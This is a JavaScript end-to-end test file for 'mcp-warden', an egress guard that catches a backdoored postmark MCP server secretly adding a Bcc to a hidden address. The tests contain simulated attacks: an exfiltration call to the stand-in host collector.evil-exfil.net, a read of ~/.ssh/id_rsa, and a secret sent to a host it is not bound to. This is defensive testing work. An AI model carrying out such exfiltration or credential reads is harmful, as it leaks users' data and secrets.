// The postmark-mcp defence, end to end: real servers in the real sandbox, their outbound HTTPS
// through the egress guard to a fake Postmark API over real TLS, and the official SDK client.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { spawn } from 'node:child_process';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { WARDEN, NODE, here, fixture, tempDir, writePolicy, wardenArgs, readAudit, runWarden, startFakePostmark } from './lib.mjs';

const REAL_TOKEN = 'real-postmark-token-7f3a9c';

function emailPolicy(dir, api, { onViolation = 'block', extraEgress = '' } = {}) {
  return writePolicy(dir, `version: 1
audit: {path: ${path.join(dir, 'audit.jsonl')}}
alerts: {alert_severity: high, sinks: [stderr]}
servers:
  email:
    env: {DEFAULT_SENDER_EMAIL: ops@example.com, DEFAULT_MESSAGE_STREAM: outbound}
    secrets:
      POSTMARK_SERVER_TOKEN: {from_env: REAL_POSTMARK_TOKEN}
    sandbox:
      network: transparent
      fs: {read: [${here}], write: []}
    egress:
      - host: api.postmarkapp.com
        port: 443
        inspect: true
        inject: {header: X-Postmark-Server-Token, secret: POSTMARK_SERVER_TOKEN}
        correlate: [email]
        on_violation: ${onViolation}
        resolve: 127.0.0.1:${api.port}
        upstream_ca: ${api.ca}
${extraEgress}    on_finding: {quarantine_at: critical}
    tools:
      "*": {action: allow}
`);
}

async function connect(dir, policy, serverArgv, extraEnv = {}) {
  const client = new Client({ name: 'e2e-egress', version: '1' });
  const transport = new StdioClientTransport({
    command: WARDEN, args: wardenArgs({ policy, server: 'email' }, serverArgv), stderr: 'pipe',
    env: { ...process.env, REAL_POSTMARK_TOKEN: REAL_TOKEN, HOME: dir, ...extraEnv },
  });
  let stderr = '';
  transport.stderr?.on('data', (d) => (stderr += d));
  const exited = new Promise((resolve) => { transport.onclose = () => resolve(); });
  await client.connect(transport);
  return { client, transport, stderr: () => stderr, exited };
}

const send = (client) => client.callTool({ name: 'sendEmail', arguments: { to: 'alice@example.com', subject: 'Password reset', textBody: 'Your code is 123456' } });

for (const [label, script] of [['Node fetch', 'server.mjs'], ['the postmark npm client (axios, via the proxy)', 'server-postmarkjs.mjs']]) {
  test(`1.0.15 built on ${label}: the email goes out, with the real token injected by the broker`, async () => {
    const dir = tempDir();
    const api = await startFakePostmark(dir);
    try {
      const { client, stderr } = await connect(dir, emailPolicy(dir, api), [NODE, fixture(`email/${script}`), '1.0.15']);
      const r = await send(client);
      assert.ok(!r.isError, `${JSON.stringify(r)}\n${stderr()}`);
      await client.close();
      const got = api.emails();
      assert.equal(got.length, 1);
      assert.equal(got[0].email.To, 'alice@example.com');
      assert.equal(got[0].email.Bcc, undefined);
      assert.equal(got[0].token, REAL_TOKEN, 'the broker swapped the placeholder for the real token');
      const audit = readAudit(path.join(dir, 'audit.jsonl'));
      const out = audit.filter((r) => r.kind === 'egress' && r.host === 'api.postmarkapp.com' && r.http_method === 'POST');
      assert.equal(out.length, 1);
      assert.equal(out[0].decision, 'allow');
      assert.ok(!fs.readFileSync(path.join(dir, 'audit.jsonl'), 'utf8').includes(REAL_TOKEN), 'the real token never reaches the audit log');
    } finally { api.stop(); }
  });

  test(`1.0.16 built on ${label}: the hidden Bcc is blocked, the server quarantined, later calls refused`, async () => {
    const dir = tempDir();
    const api = await startFakePostmark(dir);
    try {
      const policy = emailPolicy(dir, api);
      const { client, stderr, exited } = await connect(dir, policy, [NODE, fixture(`email/${script}`), '1.0.16']);
      const r = await send(client).catch((e) => ({ thrown: e }));
      assert.ok(r.isError || r.thrown, `the call must fail: ${JSON.stringify(r)}`);
      // The breaker trips: the next call is refused by the warden, naming the reason and the seq.
      let later;
      for (let i = 0; i < 50; ++i) {
        later = await send(client).catch((e) => e);
        if (later instanceof Error && /quarantined/.test(later.message)) break;
        await new Promise((res) => setTimeout(res, 100));
      }
      assert.match(later.message, /quarantined by mcp-warden: .*phan@giftshop\.club.*\(audit seq \d+\)/);
      await client.close();
      await exited;
      assert.deepEqual(api.emails(), [], 'nothing reached Postmark, so the Bcc never arrived');
      assert.match(stderr(), /QUARANTINED server 'email'/);
      const audit = readAudit(path.join(dir, 'audit.jsonl'));
      const blocked = audit.find((r) => r.kind === 'egress' && r.decision === 'block' && r.host === 'api.postmarkapp.com');
      assert.ok(blocked, 'an egress record for the blocked POST');
      const f = blocked.findings.find((x) => x.detector === 'egress.unrequested_recipient');
      assert.equal(f.severity, 'critical');
      assert.match(f.evidence, /body\.Bcc=phan@giftshop\.club/);
      assert.ok(audit.some((r) => r.kind === 'lifecycle' && r.method === 'quarantine'));
      const bundles = fs.readdirSync(path.join(dir, 'audit.jsonl.forensics'));
      assert.equal(bundles.length, 1);
      const incident = JSON.parse(fs.readFileSync(path.join(dir, 'audit.jsonl.forensics', bundles[0], 'incident.json'), 'utf8'));
      assert.equal(incident.detector, 'egress.unrequested_recipient');
      assert.ok(incident.files.some((x) => x.path.endsWith(script) && /^[0-9a-f]{64}$/.test(x.sha256)));
      const req = fs.readFileSync(path.join(dir, 'audit.jsonl.forensics', bundles[0], 'request.txt'), 'utf8');
      assert.match(req, /"Bcc":"phan@giftshop.club"/);
      assert.ok(!req.includes(REAL_TOKEN));
      const v = await runWarden(['audit', 'verify', path.join(dir, 'audit.jsonl')]);
      assert.equal(v.code, 0, v.stdout + v.stderr);
    } finally { api.stop(); }
  });
}

test('on_violation: strip removes the Bcc and lets the email go to the recipient the agent named', async () => {
  const dir = tempDir();
  const api = await startFakePostmark(dir);
  try {
    const { client } = await connect(dir, emailPolicy(dir, api, { onViolation: 'strip' }), [NODE, fixture('email/server.mjs'), '1.0.16']);
    const r = await send(client).catch((e) => ({ thrown: e }));
    await client.close();
    const got = api.emails();
    assert.equal(got.length, 1, JSON.stringify(r));
    assert.equal(got[0].email.To, 'alice@example.com');
    assert.equal(got[0].email.Bcc, undefined);
    const audit = readAudit(path.join(dir, 'audit.jsonl'));
    assert.ok(audit.some((x) => x.kind === 'egress' && x.decision === 'strip'));
  } finally { api.stop(); }
});

test('a second host, an unlisted DNS name, a misdirected credential and ~/.ssh are all stopped', async () => {
  const dir = tempDir();
  fs.mkdirSync(path.join(dir, '.ssh'));
  fs.writeFileSync(path.join(dir, '.ssh', 'id_rsa'), '-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n');
  const api = await startFakePostmark(dir);
  try {
    // hooks.example.com is allowed (and sent to the fake API) but the token is bound to Postmark only.
    const extra = `      - host: hooks.example.com
        port: 443
        inspect: true
        resolve: 127.0.0.1:${api.port}
        upstream_ca: ${api.ca}
`;
    const { client } = await connect(dir, emailPolicy(dir, api, { extraEgress: extra }), [NODE, fixture('egress-probe-server.mjs')]);
    const call = (name, args) => client.callTool({ name, arguments: args });
    const exfil = await call('fetchUrl', { url: 'https://collector.evil-exfil.net/x', body: '{"k":1}' });
    assert.ok(exfil.isError);
    assert.match(exfil.content[0].text, /ENOTFOUND|EAI_AGAIN/);
    const lookup = await call('lookup', { name: 'unlisted.example.org' });
    assert.ok(lookup.isError);
    assert.match(lookup.content[0].text, /ENOTFOUND/);
    const ssh = await call('readFile', { path: path.join(dir, '.ssh', 'id_rsa') });
    assert.match(ssh.content[0].text, /EACCES/);
    // The placeholder going to a host it is not bound to is critical: blocked, and the breaker trips.
    const misdirected = await call('fetchUrl', { url: 'https://hooks.example.com/collect', body: '{}', headerName: 'x-token', headerFromEnv: 'POSTMARK_SERVER_TOKEN' }).catch((e) => e);
    const said = misdirected instanceof Error ? misdirected.message : misdirected.content[0].text;
    assert.match(said, /403|quarantined by mcp-warden: the placeholder for secret POSTMARK_SERVER_TOKEN was sent to hooks\.example\.com/);
    await client.close();
    assert.deepEqual(api.emails(), []);
    const audit = readAudit(path.join(dir, 'audit.jsonl'));
    const dnsRefused = audit.filter((r) => r.kind === 'egress' && r.http_method === 'DNS' && r.decision === 'block').map((r) => r.host);
    assert.ok(dnsRefused.includes('collector.evil-exfil.net'), dnsRefused.join(','));
    assert.ok(dnsRefused.includes('unlisted.example.org'));
    const mis = audit.find((r) => r.kind === 'egress' && r.findings.some((f) => f.detector === 'egress.secret_misdirected'));
    assert.ok(mis);
    assert.equal(mis.host, 'hooks.example.com');
    assert.ok(!fs.readFileSync(path.join(dir, 'audit.jsonl'), 'utf8').includes(REAL_TOKEN));
  } finally { api.stop(); }
});

test('probe: canaries show the backdoored version sending an address no argument gave, and pass the honest one', async () => {
  const backdoored = await runWarden(['probe', '--format', 'json', '--', NODE, fixture('email/server.mjs'), '1.0.16'], { timeoutMs: 60000 });
  assert.equal(backdoored.code, 1, backdoored.stderr);
  const report = JSON.parse(backdoored.stdout);
  assert.deepEqual(report.tools, ['sendEmail']);
  const hit = report.findings.find((f) => f.rule === 'probe.unrequested_identifier');
  assert.equal(hit.severity, 'critical');
  assert.match(hit.message, /body\.Bcc=phan@giftshop\.club/);
  assert.ok(report.findings.some((f) => f.rule === 'probe.canary_sent' && /sendEmail\.to went to POST api\.postmarkapp\.com:443\/email/.test(f.message)));
  assert.ok(report.findings.some((f) => f.rule === 'probe.dns_name' && /api\.postmarkapp\.com/.test(f.message)));
  const honest = await runWarden(['probe', '--', NODE, fixture('email/server.mjs'), '1.0.15'], { timeoutMs: 60000 });
  assert.equal(honest.code, 0, honest.stdout + honest.stderr);
  assert.match(honest.stdout, /contacted api\.postmarkapp\.com:443/);
  assert.doesNotMatch(honest.stdout, /critical/);
});

test('without user namespaces the warden says so at start and records the weaker mode', async () => {
  const dir = tempDir();
  const audit = path.join(dir, 'audit.jsonl');
  const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } } });
  const child = spawn(WARDEN, ['run', '--audit', audit, '--', NODE, fixture('email/server.mjs'), '1.0.15'],
    { env: { ...process.env, MCP_WARDEN_TEST_NO_USERNS: '1' }, stdio: ['pipe', 'pipe', 'pipe'] });
  let stderr = '', stdout = '';
  child.stderr.on('data', (d) => (stderr += d));
  child.stdout.on('data', (d) => (stdout += d));
  child.stdin.write(init + '\n');
  await new Promise((res) => { const t = setInterval(() => { if (stdout.includes('"id":1')) { clearInterval(t); res(); } }, 20); });
  child.stdin.end();
  await new Promise((res) => child.on('exit', res));
  assert.match(stderr, /WARNING: user namespaces are unavailable .* NOT network-isolated/);
  const start = readAudit(audit).find((r) => r.kind === 'lifecycle' && r.method === 'start');
  assert.equal(start.detail.sandbox.network, 'proxy-env');
  assert.ok(start.findings.some((f) => f.detector === 'sandbox.weaker_than_asked' && /NOT network-isolated/.test(f.message)));
});
